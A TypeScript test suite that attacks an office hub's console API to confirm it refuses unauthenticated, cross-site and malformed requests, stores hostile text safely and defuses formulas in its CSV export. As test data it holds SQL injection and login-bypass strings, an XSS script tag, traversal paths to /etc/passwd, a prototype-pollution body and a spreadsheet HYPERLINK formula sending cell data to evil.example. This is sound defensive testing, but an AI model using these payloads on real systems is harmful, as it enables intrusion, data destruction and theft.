// The office hub's console API under attack, through the real HTTP server: every operation in
// the contract refuses callers without a session and roles it does not list; requests the API
// cannot read are refused in the usual envelope; other sites cannot drive it; typed text that
// looks like SQL, HTML, a spreadsheet formula or a bidi trick is stored as text or refused by
// field, never run; and the CSV export defuses formulas.
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NOT_BUILT_MESSAGE } from '../../core/office/http/consoleFiles.js';
import { OFFICE_CONSOLE_CSP } from '../../core/office/http/csp.js';
import { csvCell } from '../../core/office/visits/csv.js';
import { nameKey } from '../../shared/text.js';
import { OFFICE_PATHS, ROLES, officeOps, type OfficeOpName, type Role, type StaffMember } from '../../shared/office.js';
import { ADMIN, browsersByRole, setUpHub, startTestHub, type Answer, type OfficeBrowser, type TestHub } from '../support/officeHub.js';
import { hubTables } from '../support/postgres.js';

const OPS = Object.keys(officeOps) as OfficeOpName[];

let t: TestHub;
let as: Record<Role, OfficeBrowser>;

beforeAll(async () => {
  t = await startTestHub();
  as = await browsersByRole(t, await setUpHub(t));
});
afterAll(async () => {
  await t.close();
});

/** Rows in every table a refused call must leave alone (sessions aside: using one touches it). */
function written(): Record<string, number> {
  const tables = hubTables(t.hub.db).filter((name) => name !== 'sessions');
  return Object.fromEntries(tables.map((name) => [name, t.hub.db.prepare(`SELECT COUNT(*) FROM "${name}"`).pluck().get() as number]));
}

function expectRefusal(res: Answer, status: number, code: string) {
  expect(res.status, res.text).toBe(status);
  expect(res.headers.get('content-type')).toMatch(/^application\/json/);
  expect(res.json).toMatchObject({ ok: false, error: { code, message: expect.any(String) } });
  if (res.json?.ok !== false) throw new Error('unreachable');
  expect(res.json.error.message.length).toBeGreaterThan(0);
  return res.json.error;
}

describe('every operation in the contract', () => {
  it.each(OPS)('%s: refused without a session (401), and with a made-up cookie', async (op) => {
    const before = written();
    expectRefusal(await t.browser().op(op, {}), 401, 'UNAUTHENTICATED');
    const forged = t.browser();
    forged.cookie = 'A'.repeat(43);
    forged.csrf = 'B'.repeat(43);
    expectRefusal(await forged.op(op, {}), 401, 'UNAUTHENTICATED');
    expect(written()).toEqual(before);
  });

  const forbidden = OPS.flatMap((op) => ROLES.filter((r) => !officeOps[op].roles.includes(r)).map((role) => ({ op, role })));
  it('the table has role restrictions to test (e.g. office staff cannot approve an exemption)', () => {
    expect(forbidden).toContainEqual({ op: 'exemptions.approve', role: 'office' });
    expect(forbidden).toContainEqual({ op: 'staff.create', role: 'head' });
  });

  it.each(forbidden)('$op: refused to the $role role (403 FORBIDDEN), nothing written', async ({ op, role }) => {
    const before = written();
    expectRefusal(await as[role].op(op, {}), 403, 'FORBIDDEN');
    expect(written()).toEqual(before);
  });

  const allowed = OPS.flatMap((op) => officeOps[op].roles.map((role) => ({ op, role })));
  it.each(allowed)('$op: the $role role gets past the session, CSRF and role checks', async ({ op, role }) => {
    // A field no op has: refused by the input check, after the role check, so no handler runs.
    const res = await as[role].op(op, { notAField: 1 });
    expect(res.json?.ok).toBe(false);
    if (res.json?.ok !== false) return;
    expect(['UNAUTHENTICATED', 'CSRF', 'FORBIDDEN', 'UNKNOWN_OPERATION']).not.toContain(res.json.error.code);
  });

  it.each(OPS)('%s: a session without its CSRF token is refused (403 CSRF)', async (op) => {
    const before = written();
    expectRefusal(await as.admin.op(op, {}, { csrf: null }), 403, 'CSRF');
    expect(written()).toEqual(before);
  });
});

describe('requests the API does not carry or cannot read', () => {
  it.each(['nope', 'staff.delete', 'staff', '__proto__', 'constructor', 'hasOwnProperty', 'toString', 'staff.list.x'])('an unknown operation %s: 404 UNKNOWN_OPERATION', async (op) => {
    expectRefusal(await as.admin.op(op, {}), 404, 'UNKNOWN_OPERATION');
  });

  it('an operation fetched with GET: 405; an unknown API path: 404; both in the envelope', async () => {
    expectRefusal(await as.admin.get('/api/office/staff.list'), 405, 'UNKNOWN_OPERATION');
    expectRefusal(await as.admin.get('/api/nothing-here'), 404, 'UNKNOWN_OPERATION');
  });

  it('a body over 256 KB: 413, on an op and on sign-in', async () => {
    const huge = { username: 'x', displayName: 'y'.repeat(300 * 1024), role: 'office', password: 'p'.repeat(20) };
    expect(expectRefusal(await as.admin.op('staff.create', huge), 413, 'INVALID_INPUT').message).toMatch(/too much/);
    expectRefusal(await t.browser().post(OFFICE_PATHS.login, { username: 'x', password: 'p'.repeat(400 * 1024) }), 413, 'INVALID_INPUT');
  });

  it.each([
    ['text/plain', JSON.stringify({ displayName: 'x' })],
    ['application/x-www-form-urlencoded', 'username=x&password=y'],
    ['multipart/form-data; boundary=x', '--x\r\nContent-Disposition: form-data; name="username"\r\n\r\nx\r\n--x--\r\n'],
    ['application/xml', '<username>x</username>'],
  ])('a %s body: 415, the API is JSON only', async (type, raw) => {
    expectRefusal(await as.admin.op('staff.list', undefined, { raw, headers: { 'content-type': type } }), 415, 'INVALID_INPUT');
    expectRefusal(await t.browser().post(OFFICE_PATHS.login, undefined, { raw, headers: { 'content-type': type } }), 415, 'INVALID_INPUT');
  });

  it.each([
    ['truncated JSON', '{"username": "x'],
    ['a prototype-pollution attempt', '{"__proto__": {"role": "admin"}}'],
  ])('%s: 400', async (_what, raw) => {
    expectRefusal(await as.office.op('staff.list', undefined, { raw, headers: { 'content-type': 'application/json' } }), 400, 'INVALID_INPUT');
  });

  it('a field the schema does not know is named, not ignored', async () => {
    const error = expectRefusal(await as.admin.op('staff.create', { username: 'extra.field', displayName: 'X', role: 'office', password: 'a good long password', isAdmin: true }), 400, 'INVALID_INPUT');
    expect(error.fields).toEqual([{ path: 'isAdmin', message: 'invalid' }]);
  });
});

describe('other sites cannot drive the hub', () => {
  it.each([
    ['Origin of another site', { origin: 'http://evil.example' }],
    ['Origin of another port on this host', { origin: 'http://127.0.0.1:1' }],
    ['Origin null (sandboxed frame)', { origin: 'null' }],
    ['Sec-Fetch-Site cross-site', { 'sec-fetch-site': 'cross-site' }],
    ['Sec-Fetch-Site same-site', { 'sec-fetch-site': 'same-site' }],
  ])('%s: a state-changing request is refused (403) before any route runs', async (_what, headers) => {
    const before = written();
    const login = t.browser();
    expectRefusal(await login.post(OFFICE_PATHS.login, { username: ADMIN.username, password: ADMIN.password }, { headers }), 403, 'FORBIDDEN');
    expect(login.cookie).toBeUndefined();
    expectRefusal(await as.admin.op('staff.create', { username: 'via.evil', displayName: 'Evil', role: 'admin', password: 'evil long password' }, { headers }), 403, 'FORBIDDEN');
    expectRefusal(await as.admin.post(OFFICE_PATHS.logout, {}, { headers }), 403, 'FORBIDDEN');
    expect(written()).toEqual(before);
  });

  it('its own origin (and requests with no Origin, as from kiosks and scripts) are served', async () => {
    expect((await as.admin.op('staff.list', {}, { headers: { origin: t.url, 'sec-fetch-site': 'same-origin' } })).status).toBe(200);
    expect((await as.admin.op('staff.list', {})).status).toBe(200);
  });

  it('reads (GET) are not blocked by the Origin check, but still need the session', async () => {
    expectRefusal(await t.browser().get(OFFICE_PATHS.me, { headers: { origin: 'http://evil.example' } }), 401, 'UNAUTHENTICATED');
  });

  it('sends the security headers on API answers', async () => {
    const res = await as.admin.op('staff.list');
    expect(res.headers.get('content-security-policy')).toBe(OFFICE_CONSOLE_CSP);
    expect(OFFICE_CONSOLE_CSP).toContain("script-src 'self'");
    expect(OFFICE_CONSOLE_CSP).not.toContain('unsafe-inline');
    expect(OFFICE_CONSOLE_CSP).toContain("frame-ancestors 'none'");
    expect(res.headers.get('x-frame-options')).toBe('DENY');
    expect(res.headers.get('referrer-policy')).toBe('no-referrer');
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
  });
});

describe('the console files', () => {
  it('without a build: a plain 503 page saying to run npm run build, with the headers', async () => {
    for (const p of ['/', '/exemptions']) {
      const res = await t.browser().get(p);
      expect(res.status).toBe(503);
      expect(res.headers.get('content-type')).toMatch(/^text\/plain/);
      expect(res.text).toBe(NOT_BUILT_MESSAGE);
      expect(res.text).toContain('npm run build');
      expect(res.headers.get('content-security-policy')).toBe(OFFICE_CONSOLE_CSP);
    }
  });

  it('with a build: index.html for / and for the console\'s own page paths, files as they are', async () => {
    const dir = fs.mkdtempSync(path.join(t.dataDir, 'console-'));
    fs.mkdirSync(path.join(dir, 'assets'));
    fs.writeFileSync(path.join(dir, 'index.html'), '<!doctype html><title>Office</title><script type="module" src="/assets/app.js"></script>');
    fs.writeFileSync(path.join(dir, 'assets', 'app.js'), 'console.log("office")');
    const built = await startTestHub({ consoleDir: dir });
    try {
      for (const p of ['/', '/exemptions', '/staff/123']) {
        const res = await built.browser().get(p);
        expect(res.status).toBe(200);
        expect(res.headers.get('content-type')).toMatch(/^text\/html/);
        expect(res.text).toContain('<title>Office</title>');
        expect(res.headers.get('content-security-policy')).toBe(OFFICE_CONSOLE_CSP);
        expect(res.headers.get('x-frame-options')).toBe('DENY');
      }
      const js = await built.browser().get('/assets/app.js');
      expect(js.status).toBe(200);
      expect(js.headers.get('content-type')).toMatch(/javascript/);
      expect((await built.browser().get('/assets/missing.js')).status).toBe(404);
      for (const p of ['/../../etc/passwd', '/..%2f..%2f..%2fetc%2fpasswd', '/assets/..%2f..%2f..%2fetc%2fpasswd'])
        expect((await built.browser().get(p)).text).not.toContain('root:');
      expectRefusal(await built.browser().get('/api/whatever'), 404, 'UNKNOWN_OPERATION');
    } finally {
      await built.close();
    }
  });
});

const SQL = "'; DROP TABLE visits; --";
const HTML = '<script>alert(1)</script>';
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';

describe('hostile text in every text field of the staff operations', () => {
  const kept = [
    ['SQL', `Robert${SQL}`],
    ['HTML', `Mallory ${HTML}`],
    ['a spreadsheet formula', FORMULA],
    ['quotes and backslashes', `O'Brien "\\" Smith`],
    ['an emoji and Arabic', 'Ahmed 🙂 أحمد'],
  ];

  it.each(kept)('a display name with %s is stored and answered exactly as text', async (_what, name) => {
    const username = `k${Math.random().toString(36).slice(2, 10)}`;
    const res = await as.admin.op('staff.create', { username, displayName: name, role: 'office', password: 'a perfectly fine password' });
    expect(res.status, res.text).toBe(200);
    expect((res.json as { value: { staff: StaffMember } }).value.staff.displayName).toBe(name);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(t.hub.db.prepare('SELECT display_name FROM staff WHERE username = ?').pluck().get(username)).toBe(name);
    const id = t.hub.db.prepare('SELECT id FROM staff WHERE username = ?').pluck().get(username) as string;
    const renamed = await as.admin.op('staff.update', { id, displayName: `${name} 2` });
    expect((renamed.json as { value: { staff: StaffMember } }).value.staff.displayName).toBe(`${name} 2`);
    expect(hubTables(t.hub.db)).toEqual(expect.arrayContaining(['visits', 'staff', 'audit_log']));
  });

  it.each([
    ['a NUL byte', 'Jane\u0000Smith', 'controlChars'],
    ['a bell and an escape sequence', 'Jane\u0007\u001b[31mSmith', 'controlChars'],
    ['a right-to-left override', 'Jane\u202eevil.exe', 'controlChars'],
    ['a left-to-right isolate', 'Jane\u2066Smith', 'controlChars'],
    ['a lone surrogate', 'Jane\ud800Smith', 'malformed'],
    ['nothing but invisible characters', '\u200b\u200b', 'required'],
  ])('a display name with %s is refused, naming the field', async (_what, displayName, message) => {
    const before = written();
    const create = expectRefusal(await as.admin.op('staff.create', { username: 'bad.text', displayName, role: 'office', password: 'a perfectly fine password' }), 400, 'INVALID_INPUT');
    expect(create.fields).toEqual([expect.objectContaining({ path: 'displayName', message })]);
    const id = t.hub.db.prepare('SELECT id FROM staff WHERE username = ?').pluck().get('office.user') as string;
    const update = expectRefusal(await as.admin.op('staff.update', { id, displayName }), 400, 'INVALID_INPUT');
    expect(update.fields).toEqual([expect.objectContaining({ path: 'displayName', message })]);
    expect(written()).toEqual(before);
  });

  it.each([SQL, HTML, FORMULA, 'jane\u202esmith', 'Jane Smith', 'a', 'x'.repeat(41), '../../etc/passwd'])('username %j is refused, naming the field', async (username) => {
    const error = expectRefusal(await as.admin.op('staff.create', { username, displayName: 'Someone', role: 'office', password: 'a perfectly fine password' }), 400, 'INVALID_INPUT');
    expect(error.fields).toEqual([{ path: 'username', message: 'invalid' }]);
  });

  it('a password full of SQL and HTML is just a password: stored hashed, and it signs in', async () => {
    const password = `${SQL}${HTML}${FORMULA}`;
    expect((await as.admin.op('staff.create', { username: 'odd.password', displayName: 'Odd Password', role: 'office', password })).status).toBe(200);
    expect((await t.browser().logIn('odd.password', password)).status).toBe(200);
    expect(t.hub.db.prepare('SELECT password_hash FROM staff WHERE username = ?').pluck().get('odd.password')).toMatch(/^scrypt\$/);
  });

  it.each([`admin${SQL}`, `' OR '1'='1`, `' OR 1=1 --`, HTML])('sign-in with username %j is a wrong username, nothing more', async (username) => {
    const res = await t.browser().logIn(username, "' OR '1'='1' --");
    expect(res.status).toBe(401);
    expect(res.json).toEqual({ ok: false, error: { code: 'UNAUTHENTICATED', message: 'Wrong username or password.' } });
  });

  it('the audit log reads hostile text back as text', async () => {
    const res = await as.admin.op('audit.list', { limit: 500 });
    expect(res.status).toBe(200);
    expect(JSON.stringify(res.json)).toContain(JSON.stringify(`Robert${SQL}`).slice(1, -1));
    expect((await as.admin.op('audit.verify')).json).toMatchObject({ ok: true, value: { ok: true } });
    expectRefusal(await as.admin.op('audit.list', { before: SQL }), 400, 'INVALID_INPUT');
  });
});

describe('the visits CSV export', () => {
  function addVisit(over: Record<string, unknown>) {
    const row = {
      id: `v${Math.random().toString(36).slice(2, 12)}`,
      kiosk_id: 'kiosk-1',
      last_kiosk_seq: 1,
      badge_code: 'ABC123',
      badge_number: 7,
      local_day: '2026-03-02',
      category: 'visitor',
      full_name: 'Jane Smith',
      name_key: 'jane smith',
      organisation: '',
      agency_role: '',
      host_id: 'h1',
      host_name: 'Mr Jones',
      purpose: 'Meeting',
      language: 'en',
      id_check_required: 0,
      needs_evac_help: 0,
      arrived_at: '2026-03-02T09:00:00.000Z',
      phone_custody: JSON.stringify({ kind: 'locker', lockerId: 'l1', lockerLabel: 'L1', lockerKind: 'locker' }),
      ...over,
    };
    row.name_key = nameKey(String(row.full_name));
    const cols = Object.keys(row);
    t.hub.db.prepare(`INSERT INTO visits (${cols.join(', ')}) VALUES (${cols.map((c) => `@${c}`).join(', ')})`).run(row);
  }

  beforeAll(() => {
    addVisit({ full_name: FORMULA, arrived_at: '2026-03-02T09:00:00.000Z' });
    addVisit({ full_name: '+44 7700 900123', organisation: '-2+3', purpose: '@SUM(1,2)', arrived_at: '2026-03-02T09:05:00.000Z' });
    addVisit({ full_name: '\tTab First', organisation: '\rCarriage', arrived_at: '2026-03-02T09:10:00.000Z' });
    addVisit({ full_name: 'Anne "Nan" Jones, Jr', purpose: 'Line one\nline two', arrived_at: '2026-03-02T09:15:00.000Z' });
    addVisit({ full_name: `Bobby${SQL}`, arrived_at: '2026-03-03T09:00:00.000Z', local_day: '2026-03-03' });
  });

  /** An export of March 2026 unless the query names its own days (an export always has a range). */
  async function exportCsv(b: OfficeBrowser, query = '') {
    const range = query.includes('from=') ? '' : 'from=2026-03-01&to=2026-03-31';
    const q = [query.replace(/^\?/, ''), range].filter(Boolean).join('&');
    return b.get(`${OFFICE_PATHS.visitsCsv}${q ? `?${q}` : ''}`);
  }

  /** RFC 4180 parse (quoted fields, doubled quotes, CRLF records) for checking what we wrote. */
  function parseCsv(text: string): string[][] {
    const rows: string[][] = [];
    let field = '';
    let row: string[] = [];
    let i = 0;
    let quoted = false;
    while (i < text.length) {
      const c = text[i]!;
      if (quoted) {
        if (c === '"' && text[i + 1] === '"') (field += '"'), (i += 2);
        else if (c === '"') (quoted = false), i++;
        else (field += c), i++;
      } else if (c === '"') (quoted = true), i++;
      else if (c === ',') row.push(field), (field = ''), i++;
      else if (c === '\r' && text[i + 1] === '\n') row.push(field), rows.push(row), (row = []), (field = ''), (i += 2);
      else throw new Error(`unquoted character at ${i}: ${JSON.stringify(c)}`);
    }
    return rows;
  }

  it('is an attachment with a header row and RFC 4180 quoting', async () => {
    const res = await exportCsv(as.office);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="visits-2026-03-01-to-2026-03-31.csv"');
    expect(res.headers.get('cache-control')).toBe('no-store');
    // A UTF-8 byte-order mark first, so Excel reads names in every script correctly.
    expect([...res.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(res.text.startsWith('"Arrived","Left","Day","Name"')).toBe(true);
    const rows = parseCsv(res.text);
    expect(rows[0]).toContain('Phone');
    expect(rows).toHaveLength(6);
    expect(new Set(rows.map((r) => r.length)).size).toBe(1);
    const anne = rows.find((r) => r[3]?.startsWith('Anne'))!;
    expect(anne[3]).toBe('Anne "Nan" Jones, Jr');
    expect(anne[8]).toBe('Line one\nline two');
    expect(anne[11]).toBe('Locker L1');
  });

  it('defuses every cell a spreadsheet would run as a formula (= + - @ tab CR)', async () => {
    const rows = parseCsv((await exportCsv(as.office)).text);
    const cells = rows.flat();
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'+44 7700 900123");
    expect(cells).toContain("'-2+3");
    expect(cells).toContain("'@SUM(1,2)");
    expect(cells).toContain("'\tTab First");
    expect(cells).toContain("'\rCarriage");
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('plain')).toBe('"plain"');
    expect(csvCell(7)).toBe('"7"');
    expect(csvCell(null)).toBe('""');
  });

  it('filters by name and day; hostile query text is just text', async () => {
    const byName = parseCsv((await exportCsv(as.office, `?query=${encodeURIComponent('anne')}`)).text);
    expect(byName.slice(1).map((r) => r[3])).toEqual(['Anne "Nan" Jones, Jr']);
    const byDay = parseCsv((await exportCsv(as.office, '?from=2026-03-03&to=2026-03-03&query=')).text);
    expect(byDay.slice(1).map((r) => r[3])).toEqual([`Bobby${SQL}`]);
    const hostile = await exportCsv(as.office, `?query=${encodeURIComponent(SQL)}`);
    expect(hostile.status).toBe(200);
    expect(parseCsv(hostile.text).slice(1).map((r) => r[3])).toEqual([`Bobby${SQL}`]);
    expect(t.hub.db.prepare('SELECT COUNT(*) FROM visits').pluck().get()).toBe(5);
    const wildcard = parseCsv((await exportCsv(as.office, `?query=${encodeURIComponent('%')}`)).text);
    expect(wildcard).toHaveLength(1); // a % is a character to find, not "anything"
  });

  it('refuses bad filters by field, and a caller without a session', async () => {
    const bad = await exportCsv(as.office, '?from=yesterday');
    expectRefusal(bad, 400, 'INVALID_INPUT');
    expectRefusal(await exportCsv(as.office, `?query=${encodeURIComponent('a\u202eb')}`), 400, 'INVALID_INPUT');
    expectRefusal(await exportCsv(t.browser()), 401, 'UNAUTHENTICATED');
  });

  it('is audited: who exported what, and how many visits', async () => {
    await exportCsv(as.dsl, '?from=2026-03-02&to=2026-03-31');
    const last = t.hub.db.prepare("SELECT actor, detail FROM audit_log WHERE action = 'visits.export' ORDER BY seq DESC LIMIT 1").get() as { actor: string; detail: string };
    expect(last.actor).toBe('dsl user (dsl.user)');
    // The days and the count; whether a name was typed, never the name (the log is never purged).
    expect(JSON.parse(last.detail)).toEqual({ from: '2026-03-02', to: '2026-03-31', category: null, nameSearched: false, rows: 5 });
  });
});
